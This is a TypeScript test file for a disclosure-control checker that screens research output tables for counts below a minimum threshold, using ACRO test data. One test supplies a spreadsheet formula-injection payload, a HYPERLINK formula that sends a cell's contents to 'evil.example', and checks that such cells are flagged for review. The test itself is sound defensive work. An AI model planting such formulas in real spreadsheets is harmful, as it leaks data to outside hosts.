import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEFAULT_POLICY } from './disclosure.policy';
import type { FileCheckResult } from './disclosure.types';
import { checkFile } from './file.checker';
import { RULES_VERSION } from './rules.version';
import { chunked, CHUNK_SIZES, textSource, utf8 } from './testing/byte-source.fixture';

const ACRO_DATA = '/work/shared/data/acro';

const check = (name: string, text: string, policy = DEFAULT_POLICY, size?: number): Promise<FileCheckResult> => checkFile(name, textSource(text, size), policy);

const table = (...rows: (string | number)[][]): string => rows.map((r) => r.join(',')).join('\n') + '\n';

/** A one-row table whose single count cell holds `count`. */
const oneCell = (count: number | string): string => table(['sex', 'smokers'], ['F', count]);

describe('checkFile: minimum threshold (SDC handbook, ACRO default 10)', () => {
  it('passes a cell of exactly the threshold', async () => {
    const result = await check('t.csv', oneCell(10));
    expect(result.verdict).toBe('pass');
    expect(result.findings).toEqual([]);
  });

  it('fails a cell one below the threshold, naming the cell by position and labels', async () => {
    const result = await check('t.csv', oneCell(9));
    expect(result.verdict).toBe('fail');
    expect(result.findings).toEqual([
      {
        rule: 'threshold',
        verdict: 'fail',
        cells: [{ row: 0, column: 0, rowLabel: 'F', columnLabel: 'smokers' }],
        message: '1 cell has fewer than 10 contributors',
      },
    ]);
  });

  it('fails a zero while zeros are disclosive, and passes it when they are not', async () => {
    expect((await check('t.csv', oneCell(0))).verdict).toBe('fail');
    expect((await check('t.csv', oneCell(0), { ...DEFAULT_POLICY, zerosAreDisclosive: false })).verdict).toBe('pass');
  });

  it('uses the threshold of the policy it is given and reports that policy', async () => {
    const policy = { ...DEFAULT_POLICY, threshold: 5 };
    const result = await check('t.csv', oneCell(5), policy);
    expect(result).toMatchObject({ verdict: 'pass', policy, rulesVersion: RULES_VERSION });
    expect((await check('t.csv', oneCell(4), policy)).findings[0].message).toBe('1 cell has fewer than 5 contributors');
  });

  it('lists every failing cell in one finding and never puts their values in the message', async () => {
    const text = table(['region', 'A', 'B', 'Total'], ['North', 3, 40, 43], ['South', 7, 1, 8], ['Total', 10, 41, 51]);
    const [finding] = (await check('t.csv', text)).findings;
    expect(finding.cells.map((c) => [c.row, c.column])).toEqual([
      [0, 0],
      [1, 0],
      [1, 1],
      [1, 2],
    ]);
    expect(finding.cells[3]).toEqual({ row: 1, column: 2, rowLabel: 'South', columnLabel: 'Total' });
    expect(finding.message).toBe('4 cells have fewer than 10 contributors');
    expect(finding.message).not.toMatch(/\b[1378]\b/);
  });

  it('reads totals rows and columns labelled Total or All as part of the table', async () => {
    const text = table(['', 'A', 'B', 'All'], ['x', 20, 30, 50], ['y', 15, 25, 40], ['All', 35, 55, 90]);
    expect((await check('t.csv', text)).verdict).toBe('pass');
  });

  it('is not failed by empty cells and suppression marks', async () => {
    const text = table(['', 'A', 'B', 'C', 'D', 'E', 'F'], ['x', '', '*', '<10', 'x', '[c]', 25]);
    expect(await check('t.csv', text)).toMatchObject({ verdict: 'pass', findings: [] });
  });

  it('reads counts with thousands separators', async () => {
    expect((await check('t.csv', 'a,b\nx,"1,234"\n')).verdict).toBe('pass');
  });
});

describe('checkFile: the ACRO test data as a year × grant_type crosstab', () => {
  /** The crosstab ACRO's own tests build: count of rows per (year, grant_type). */
  const crosstab = (csvPath: string, rowKey: string, columnKey: string): string => {
    const [header, ...lines] = readFileSync(csvPath, 'utf8').trim().split('\n');
    const names = header.split(',');
    const [r, c] = [names.indexOf(rowKey), names.indexOf(columnKey)];
    const counts = new Map<string, number>();
    for (const line of lines) {
      const cells = line.split(','); // the key columns come before any quoted field in this file
      const key = `${cells[r]}\u0000${cells[c]}`;
      counts.set(key, (counts.get(key) ?? 0) + 1);
    }
    const keys = [...counts.keys()].map((k) => k.split('\u0000'));
    const rows = [...new Set(keys.map(([y]) => y))].sort();
    const columns = [...new Set(keys.map(([, g]) => g))].sort();
    const body = rows.map((y) => [y, ...columns.map((g) => counts.get(`${y}\u0000${g}`) ?? 0)]);
    // pandas' to_csv layout, index-name row included, as ACRO writes its outputs.
    return table([columnKey, ...columns], [rowKey, ...columns.map(() => '')], ...body);
  };

  it('fails the six R/G cells (8 charities a year), as ACRO does', async () => {
    const text = crosstab(join(ACRO_DATA, 'test_data.csv'), 'year', 'grant_type');
    const result = await check('crosstab.csv', text);
    expect(result.verdict).toBe('fail');
    expect(result.findings).toHaveLength(1);
    expect(result.findings[0].message).toBe('6 cells have fewer than 10 contributors');
    expect(result.findings[0].cells).toEqual(
      ['2010', '2011', '2012', '2013', '2014', '2015'].map((year, row) => ({ row, column: 3, rowLabel: year, columnLabel: 'R/G' })),
    );
  });
});

describe('checkFile: tables that cannot be read as counts', () => {
  it('sends a CSV formula to review instead of reading it as a number', async () => {
    const result = await check('t.csv', oneCell('=HYPERLINK("http://evil.example/?q="&A1;"click")'));
    expect(result.verdict).toBe('review');
    expect(result.findings).toEqual([
      expect.objectContaining({ rule: 'threshold', verdict: 'review', cells: [expect.objectContaining({ row: 0, column: 0 })] }),
    ]);
    expect(result.findings[0].message).toContain('spreadsheet formulas');
  });

  it('still fails small counts beside unreadable cells (fail closed)', async () => {
    const result = await check('t.csv', table(['', 'A', 'B'], ['x', 'lots', 3]));
    expect(result.verdict).toBe('fail');
    expect(result.findings.map((f) => [f.rule, f.verdict])).toEqual([
      ['threshold', 'fail'],
      ['threshold', 'review'],
    ]);
  });

  it('sends fractional values to review: a table of means is not a table of counts', async () => {
    expect((await check('t.csv', oneCell(12.5))).verdict).toBe('review');
  });

  it.each([
    ['ragged rows', 'a,b,c\nx,12,13\ny,14\n', /1 row of the table \(body row 1, 0-based\) does not have the 3 cells/],
    ['an unterminated quote', 'a,b\nx,"12\ny,13\n', /quote opened on line 2 is never closed/],
    ['binary junk after a text head', 'a,b\n' + 'x,12\n'.repeat(5000) + 'y,1\u0000\u0007\n', /Line 5002 contains binary/],
    ['a header without rows', 'a,b,c\n', /no body rows/],
    ['a single column', 'count\n12\n', /single column/],
  ])('sends %s to review with a file-type finding', async (_name, text, message) => {
    const result = await check('t.csv', text);
    expect(result.verdict).toBe('review');
    expect(result.findings).toHaveLength(1);
    expect(result.findings[0]).toMatchObject({ rule: 'file-type', verdict: 'review', cells: [] });
    expect(result.findings[0].message).toMatch(message);
  });

  it('judges a frequency table larger than maxTableCells whole: it is read row by row, never held', async () => {
    const text = table(['', 'a', 'b'], ...Array.from({ length: 10 }, (_, i) => [`r${i}`, 20, i === 9 ? 3 : 30]));
    const result = await check('t.csv', text, { ...DEFAULT_POLICY, maxTableCells: 10 });
    expect(result.verdict).toBe('fail');
    expect(result.findings.map((f) => [f.rule, f.cells])).toEqual([['threshold', [{ row: 9, column: 1, rowLabel: 'r9', columnLabel: 'b' }]]]);
  });
});

describe.each(CHUNK_SIZES)('checkFile: byte-level CSV handling (%s chunks)', (_label, size) => {
  it('reads a table with BOM, CRLF, quoted labels and a quoted line break', async () => {
    const text = '\uFEFF"age, years",A,"B ""x"""\r\n"under\r\n18",9,20\r\n18+,30,40\r\n';
    const result = await check('t.csv', text, DEFAULT_POLICY, size);
    expect(result.findings[0].cells).toEqual([{ row: 0, column: 0, rowLabel: 'under\r\n18', columnLabel: 'A' }]);
  });

  it('reads semicolon and tab tables', async () => {
    expect((await check('t.csv', 'a;b;c\nx;12;3\n', DEFAULT_POLICY, size)).findings[0].cells).toHaveLength(1);
    expect((await check('t.tsv', 'a\tb\tc\nx\t12\t3\n', DEFAULT_POLICY, size)).findings[0].cells).toHaveLength(1);
  });
});

describe('checkFile: files the rules cannot judge', () => {
  it.each([
    ['a PNG named .csv', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0], 'table.csv', 'image', /Images \(image\/png\)/],
    ['a PDF', [...utf8('%PDF-1.4\n')], 'report.pdf', 'pdf', /PDF/],
    ['free text', [...utf8('We found that smoking rates fell.\n')], 'notes.txt', 'text', /Free text/],
    ['an empty file', [], 'table.csv', 'empty', /empty/],
  ])('sends %s to review with the reason', async (_name, content, fileName, kind, reason) => {
    const result = await checkFile(fileName, chunked(Uint8Array.from(content)));
    expect(result.verdict).toBe('review');
    expect(result.fileType.kind).toBe(kind);
    expect(result.findings).toEqual([expect.objectContaining({ rule: 'file-type', verdict: 'review', message: expect.stringMatching(reason) })]);
  });

  it('releases a source it does not read to the end', async () => {
    let closed = false;
    async function* png(): AsyncGenerator<Uint8Array> {
      try {
        yield Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
        for (;;) yield new Uint8Array(8192);
      } finally {
        closed = true;
      }
    }
    expect((await checkFile('plot.png', png())).verdict).toBe('review');
    expect(closed).toBe(true);
  });

  it('rethrows a failure of the source itself, so the caller retries rather than records a verdict', async () => {
    async function* broken(): AsyncGenerator<Uint8Array> {
      yield utf8('a,b\n'.repeat(5000));
      throw new Error('connection reset');
    }
    await expect(checkFile('t.csv', broken())).rejects.toThrow('connection reset');
  });
});
